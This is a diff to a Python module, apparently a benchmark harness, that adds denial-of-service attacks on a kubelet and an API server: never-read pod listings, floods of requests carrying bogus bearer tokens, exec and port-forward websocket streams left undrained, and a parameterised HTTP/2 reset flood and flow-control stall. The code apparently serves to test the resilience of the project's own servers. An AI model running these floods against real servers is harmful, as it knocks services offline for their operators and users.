@@ -1,5 +1,5 @@
-"""`python -m bench.attacks NAME URL GRPC PKI`: one attack on an API server, which begins with a line of
-its input, and is held until that ends.
+"""`python -m bench.attacks NAME URL GRPC PKI METHOD`: one attack on an API server or a kubelet, which begins with a
+line of its input, and is held until that ends.
 
 A process of its own, so that it does not slow those whom it must not slow.  Prints a line once all its clients are at
 it.  Each is bounded in number and size: what they ask for is memory, not bandwidth.
@@ -23,6 +23,11 @@ AT_ONCE = 50
 SECONDS = 5.0
 """How long those go on that would never end."""
 MAPS = "/api/v1/namespaces/default/configmaps"
+POD = "/api/v1/namespaces/default/pods/p0"
+UPGRADE = (
+    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+    "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\nSec-WebSocket-Protocol: v4.channel.k8s.io"
+)
 BOMB, BOMB_YAML = 100 << 20, b"[" + b",".join([b"{a: b}"] * 350_000) + b"]"
 MESSAGE = 15 << 20
 HEADERS, DATA, RESET, SETTINGS, WINDOW, CONTINUATION = 1, 0, 3, 4, 8, 9
@@ -34,6 +39,8 @@ class Attacker:
     rest: SplitResult
     grpc: SplitResult
     pki: Path
+    method: str = "/wherry.v1.Resources/Create"
+    """Of the gRPC port, with one message."""
     writers: list[asyncio.StreamWriter] = field(default_factory=list)
 
     def tls(self, *, known: bool = True) -> ssl.SSLContext:
@@ -132,7 +139,7 @@ async def messages(of: Attacker) -> None:
 
     async def one() -> None:
         reader, writer = await of.http2()
-        await _fill(reader, writer, range(1, 80, 2))
+        await _fill(reader, writer, range(1, 80, 2), of.method)
 
     await _many(20, one)
 
@@ -146,16 +153,49 @@ async def resets(of: Attacker) -> None:
         while time.monotonic() < until:
             calls = range(number, number + 100, 2)
             number += 100
-            frames = (_frame(HEADERS, 4, n, _head()) + _frame(RESET, 0, n, struct.pack(">I", 8)) for n in calls)
+            head, cancel = _head(of.method), struct.pack(">I", 8)
+            frames = (_frame(HEADERS, 4, n, head) + _frame(RESET, 0, n, cancel) for n in calls)
             await of.send(writer, b"".join(frames))
             await asyncio.sleep(0)
 
     await _many(10, one)
 
 
+async def pages(of: Attacker) -> None:
+    """300 clients of a kubelet that ask for its pods and do not read."""
+    await _unread(of, 300, "/pods", "application/json")
+
+
+async def strangers(of: Attacker) -> None:
+    """1,000 requests to a kubelet, each with a token of nobody."""
+
+    async def one(number: int) -> None:
+        _, writer = await of.connect(of.rest, of.tls(known=False))
+        writer.write(f"GET /pods HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer none-{number}\r\n\r\n".encode())
+
+    numbers = iter(range(1000))
+    await _many(1000, lambda: one(next(numbers)))
+
+
+async def execs(of: Attacker) -> None:
+    """600 commands in a pod that talk without end to clients who do not read."""
+    await _unread(of, 600, f"{POD}/exec?command=yes&container=c&stdout=1", f"*/*\r\n{UPGRADE}")
+
+
+async def forwards(of: Attacker) -> None:
+    """30 port-forwards of 100 connections each."""
+    ports = "&".join(["ports=80"] * 100)
+    await _unread(of, 30, f"{POD}/portforward?{ports}", f"*/*\r\n{UPGRADE}")
+
+
 ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
     each.__name__: each for each in (handshakes, silent, heads, bodies, bombs, yaml, tables, protobuf, messages, resets)
 }
+NODE_ATTACKS = {each.__name__: each for each in (handshakes, silent, heads, bodies, pages, strangers, messages, resets)}
+"""On a kubelet's own ports."""
+STREAM_ATTACKS = {each.__name__: each for each in (execs, forwards)}
+"""On an API server, about pods of a simulated node."""
+EVERY = {**ATTACKS, **NODE_ATTACKS, **STREAM_ATTACKS}
 
 
 async def _many(count: int, one: Callable[[], Awaitable[object]]) -> None:
@@ -182,11 +222,12 @@ async def _unread(of: Attacker, count: int, path: str, accept: str) -> None:
     await asyncio.sleep(SECONDS)
 
 
-async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, streams: range) -> None:
+async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, streams: range, method: str) -> None:
     """Send of each stream's message whatever the server gives room for, and never the end of it."""
     room, first = {0: 65535} | dict.fromkeys(streams, 65535), 65535
+    beginning = b"\0" + struct.pack(">I", MESSAGE)
     for number in streams:
-        writer.write(_frame(HEADERS, 4, number, _head()) + _frame(DATA, 0, number, b"\0" + struct.pack(">I", MESSAGE)))
+        writer.write(_frame(HEADERS, 4, number, _head(method)) + _frame(DATA, 0, number, beginning))
         room[0] -= 5
         room[number] -= 5
     try:
@@ -224,19 +265,19 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload
 
 
-def _head() -> bytes:
+def _head(method: str) -> bytes:
     fields = {
-        ":method": "POST", ":scheme": "https", ":path": "/wherry.v1.Resources/Create", ":authority": "localhost",
+        ":method": "POST", ":scheme": "https", ":path": method, ":authority": "localhost",
         "content-type": "application/grpc", "te": "trailers",
     }  # fmt: skip
     words = ((name.encode(), value.encode()) for name, value in fields.items())
     return b"".join(b"\0" + bytes((len(n),)) + n + bytes((len(v),)) + v for n, v in words)
 
 
-async def main(name: str, url: str, grpc: str, pki: str) -> None:
-    attacker = Attacker(urlsplit(url), urlsplit(grpc), Path(pki))
+async def main(name: str, url: str, grpc: str, pki: str, method: str) -> None:
+    attacker = Attacker(urlsplit(url), urlsplit(grpc), Path(pki), method)
     await asyncio.to_thread(sys.stdin.readline)
-    await ATTACKS[name](attacker)
+    await EVERY[name](attacker)
     print("done", flush=True)
     await asyncio.to_thread(sys.stdin.read)
     for writer in attacker.writers:
